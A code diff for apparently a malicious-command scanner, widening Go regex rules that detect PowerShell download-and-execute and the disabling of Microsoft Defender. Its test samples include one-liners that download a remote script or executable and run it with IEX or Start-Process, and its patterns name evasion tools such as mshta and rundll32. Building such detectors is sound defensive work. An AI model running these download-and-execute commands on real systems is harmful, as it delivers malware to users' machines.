@@ -72,7 +72,7 @@ var textRules = []*textRule{
 	tr("ps-download-exec", "download and execute", critical, "downloads a PowerShell script and runs it with Invoke-Expression",
 		[]string{"iex", "invoke-expression"},
 		`(\biex\b|invoke-expression)`,
-		`downloadstring|downloaddata|\biwr\b|invoke-webrequest|\birm\b|invoke-restmethod|net\.webclient|start-bitstransfer|\bcurl\b|\bwget\b|httpclient|\.content`,
+		`downloadstring|downloaddata|\biwr\b|invoke-webrequest|\birm\b|invoke-restmethod|net\.webclient|start-bitstransfer|\bcurl\b|\bwget\b|httpclient|\.content|xmlhttp|winhttprequest|\.responsetext|internetexplorer\.application|getresponsestream|net\.webrequest`,
 		[]string{
 			"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.90/a.ps1')\"",
 			"iex (iwr -UseBasicParsing https://example.org/setup.ps1)",
@@ -83,7 +83,7 @@ var textRules = []*textRule{
 	tr("ps-download-run", "download and execute", high, "downloads a program and starts it",
 		[]string{"downloadfile", "outfile", "start-bitstransfer"},
 		`downloadfile\(|-outfile\s|start-bitstransfer`,
-		`start-process|\bsaps\b|invoke-item|\bii\b|&\s*\(?\$|\.exe['"]?\s*;?\s*(&|start)|cmd\s*/c`,
+		`start-process|\bsaps\b|invoke-item|\bii\b|&\s*\(?\$|\.exe['"]?\s*;?\s*(&|start)|cmd\s*/c|powershell(\.exe)?\s[^\n;|]*-(f|fi|fil|file)\s|;\s*\.\\[\w\\.-]+\.(exe|ps1|bat|cmd|vbs)\b|rundll32|regsvr32|msiexec|wscript|cscript|mshta`,
 		[]string{"(New-Object Net.WebClient).DownloadFile('http://192.0.2.92/a.exe','C:\\Users\\Public\\a.exe'); Start-Process C:\\Users\\Public\\a.exe"},
 		[]string{"Invoke-WebRequest https://example.org/data.csv -OutFile data.csv; Import-Csv data.csv"}),
 	tr("lolbin-download", "download and execute", high, "uses a built-in Windows program to fetch or run remote code",
@@ -109,7 +109,7 @@ var textRules = []*textRule{
 		},
 		[]string{"Test-NetConnection -ComputerName example.com -Port 443"}),
 	tr("defender-off", "defense evasion", high, "turns Microsoft Defender protection off",
-		[]string{"mppreference", "windefend", "windows defender", "mpcmdrun"},
+		[]string{"mppreference", "windefend", "windows defender", "windows-defender", "mpcmdrun"},
 		`set-mppreference\s+.*-(disable\w*\s+(\$true|1)|exclusion\w*)|add-mppreference\s+.*-exclusion|sc(\.exe)?\s+(stop|delete|config)\s+windefend|windows defender.*disable|disableantispyware|mpcmdrun(\.exe)?\s+.*-removedefinitions|uninstall-windowsfeature\s+.*windows-defender`,
 		"",
 		[]string{
